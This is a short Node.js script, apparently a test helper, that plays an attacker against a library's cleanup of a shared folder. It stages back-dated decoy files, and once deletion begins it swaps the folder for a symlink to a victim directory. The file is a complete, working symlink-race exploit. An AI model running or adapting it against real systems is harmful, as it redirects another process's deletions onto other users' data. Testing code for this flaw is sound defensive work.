// @ts-check
/**
 * An attacker: fills a folder of this library's with names of its own entries, and swaps it for a link to a victim's folder as soon
 * as somebody begins to clear it. Prints how often it did.
 */
import { closeSync, existsSync, lstatSync, mkdirSync, openSync, renameSync, symlinkSync, utimesSync } from 'node:fs';

const [shared = '', name = '', victim = '', ...names] = process.argv.slice(2);
const decoy = `${shared}/${name}`;
const DECOYS = 3000;
const HOUR_S = 3600;

process.umask(0);
mkdirSync(decoy, 0o777);
const entries = Array.from({ length: DECOYS }, (_, i) => i.toString(16).padStart(32, '0'));
const old = Date.now() / 1000 - 2 * HOUR_S;
for (const entry of [...entries, ...names]) {
  closeSync(openSync(`${decoy}/${entry}`, 'w', 0o666));
  utimesSync(`${decoy}/${entry}`, old, old);
}
utimesSync(decoy, old, old);
closeSync(openSync(`${shared}/attack-ready`, 'w'));

/** @param {string} path */
function isThere(path) {
  return lstatSync(path, { throwIfNoEntry: false }) !== undefined;
}

let swaps = 0;
while (swaps === 0 && !existsSync(`${shared}/attack-over`)) {
  if (isThere(`${decoy}/${entries[0]}`)) continue;
  try {
    renameSync(decoy, `${decoy}.away`);
    symlinkSync(victim, decoy);
    swaps += 1;
  } catch {
    break;
  }
}
console.log(swaps);
